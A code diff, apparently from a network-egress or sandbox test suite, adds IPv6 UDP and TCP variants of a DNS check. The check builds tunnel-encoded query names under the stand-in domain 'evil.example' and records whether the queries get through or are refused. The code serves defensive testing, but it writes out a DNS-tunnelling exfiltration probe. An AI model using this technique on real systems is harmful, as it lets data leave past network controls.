@@ -58,6 +58,38 @@ static enum verdict other_tcp(const struct scene *s)
 	return ask(s, &server, SOCK_STREAM, "evil.example");
 }
 
+static enum verdict other6(const struct scene *s, int type)
+{
+	struct sockaddr_in6 server = s->target6;
+	uint8_t query[514];
+	char name[256];
+	size_t len, skip = type == SOCK_STREAM ? 0 : 2;
+	int fd = new_socket(AF_INET6, type, 0);
+
+	server.sin6_port = htons(53);
+	tunnel_name(s, name, sizeof(name), "evil.example");
+	len = dns_message(query + 2, sizeof(query) - 2, 1, name, NULL);
+	query[0] = 0;
+	query[1] = (uint8_t)len;
+	if (connect(fd, (const void *)&server, sizeof(server)) != 0 ||
+	    send(fd, query + skip, len + 2 - skip, 0) < 0 ||
+	    recv(fd, query + skip, sizeof(query) - skip, 0) < 12)
+		return failed("query");
+	return (query[5] & 15) == 0 ? say(THROUGH, "%s: answered", name)
+				    : say(REFUSED, "%s: response code %d", name,
+					  query[5] & 15);
+}
+
+static enum verdict other6_udp(const struct scene *s)
+{
+	return other6(s, SOCK_DGRAM);
+}
+
+static enum verdict other6_tcp(const struct scene *s)
+{
+	return other6(s, SOCK_STREAM);
+}
+
 /* Without a connect(2) that somebody could refuse. */
 static enum verdict other_sendmsg(const struct scene *s)
 {
@@ -265,6 +297,8 @@ const struct attack attack_dns = {
 	"dns",
 	(const struct mode[]){{"other-udp", other_udp},
 			      {"other-tcp", other_tcp},
+			      {"other6-udp", other6_udp},
+			      {"other6-tcp", other6_tcp},
 			      {"other-sendmsg", other_sendmsg},
 			      {"orphans", orphans},
 			      {"tunnel", tunnel},
